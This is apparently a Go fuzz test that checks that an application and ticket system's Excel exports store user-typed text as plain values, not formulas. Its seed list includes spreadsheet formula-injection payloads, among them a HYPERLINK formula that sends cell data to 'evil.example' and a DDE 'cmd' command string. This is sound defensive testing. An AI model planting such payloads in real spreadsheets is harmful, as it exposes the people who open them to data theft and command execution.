package excel_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/mektep/mektep/sitecore"
	"github.com/mektep/mektep/sitecore/excel"
)

// formulaSeeds are texts a stranger may type into a form hoping an admin opens them in Excel
// as formulas (the "CSV injection" of spreadsheets).
var formulaSeeds = []string{
	"=1+1", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "+7 701 000 00 00", "-2+3", "@SUM(A1:A9)",
	`=cmd|' /C calc'!A0`, "\t=1+1", " =1", "=", "Әлихан", "007", "1e5", "TRUE", "<f>1+1</f>",
	"\x00\x01\x1f", "\xff\xfe", "a\r\nb", "_x0041_", strings.Repeat("ә", 33000),
}

// FuzzExportCells writes applicant- and requester-typed texts into both exports and opens
// the workbooks with excelize: each opens, and each text comes back as a plain value,
// never as a formula, whatever it starts with.
func FuzzExportCells(f *testing.F) {
	for i, s := range formulaSeeds {
		f.Add(s, formulaSeeds[(i+1)%len(formulaSeeds)], formulaSeeds[(i+2)%len(formulaSeeds)])
	}
	f.Fuzz(func(t *testing.T, name, address, phone string) {
		a := &sitecore.Application{ID: 1, Number: name, ChildName: name, Grade: 1, Address: address, Phone: phone,
			Email: address, Status: sitecore.AppDeclined, DeclineText: phone, InstructionLang: sitecore.Kazakh,
			CreatedAt: time.Date(2026, 4, 1, 5, 0, 0, 0, time.UTC)}
		var buf bytes.Buffer
		if _, err := excel.WriteApplications(&buf, testCampaign(), sitecore.Kazakh, from([]*sitecore.Application{a}), nil); err != nil {
			t.Fatalf("WriteApplications: %v", err)
		}
		checkCells(t, buf.Bytes(), "1-сынып", map[string]string{"A2": name, "B2": name, "G2": address, "H2": phone, "I2": address, "L2": phone})

		tk := &sitecore.Ticket{ID: 1, RequesterName: name, Subject: address, AssigneeName: phone, CreatedAt: a.CreatedAt}
		buf.Reset()
		next := false
		if _, err := excel.WriteTickets(&buf, sitecore.Kazakh, func() (*sitecore.Ticket, error) {
			if next {
				return nil, nil
			}
			next = true
			return tk, nil
		}); err != nil {
			t.Fatalf("WriteTickets: %v", err)
		}
		checkCells(t, buf.Bytes(), "", map[string]string{"D2": name, "G2": address, "I2": phone})
	})
}

// checkCells fails t when cellProblem finds one.
func checkCells(t *testing.T, data []byte, sheet string, want map[string]string) {
	t.Helper()
	if p := cellProblem(data, sheet, want); p != "" {
		t.Fatal(p)
	}
}

// cellProblem opens an exported workbook and checks that the cells of sheet (the first one
// if "") hold the texts written into them as values and not as formulas; it describes the
// first problem, or returns "".
func cellProblem(data []byte, sheet string, want map[string]string) string {
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		return "the export does not open: " + err.Error()
	}
	defer f.Close()
	if sheet == "" {
		sheet = f.GetSheetName(0)
	}
	for ref, text := range want {
		if formula, err := f.GetCellFormula(sheet, ref); err != nil || formula != "" {
			return fmt.Sprintf("%s!%s holding %.80q is the formula %.80q (%v)", sheet, ref, text, formula, err)
		}
		got, err := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
		if err != nil {
			return fmt.Sprintf("%s!%s: %v", sheet, ref, err)
		}
		if xmlText(text) && got != cellText(text) {
			return fmt.Sprintf("%s!%s = %.80q, want %.80q", sheet, ref, got, cellText(text))
		}
	}
	return ""
}

// TestCellProblemSeesFormulas keeps the fuzz property honest: a workbook with a formula
// where a text was written fails it.
func TestCellProblemSeesFormulas(t *testing.T) {
	f := excelize.NewFile()
	if err := f.SetCellFormula("Sheet1", "A1", "1+1"); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	if p := cellProblem(buf.Bytes(), "", map[string]string{"A1": "=1+1"}); !strings.Contains(p, "is the formula") {
		t.Errorf("a formula cell passed: %q", p)
	}
}

// xmlText reports whether s can be written in XML as it is: valid UTF-8 without the
// control characters XML 1.0 forbids (the exports write those as U+FFFD).
func xmlText(s string) bool {
	if !utf8.ValidString(s) {
		return false
	}
	for _, r := range s {
		if r < 0x20 && r != '\t' && r != '\n' && r != '\r' || r == 0xFFFE || r == 0xFFFF {
			return false
		}
	}
	return true
}

// cellText is what a cell keeps of a text: Excel's limit of 32,767 characters.
func cellText(s string) string {
	if r := []rune(s); len(r) > excelize.TotalCellChars {
		return string(r[:excelize.TotalCellChars])
	}
	return s
}
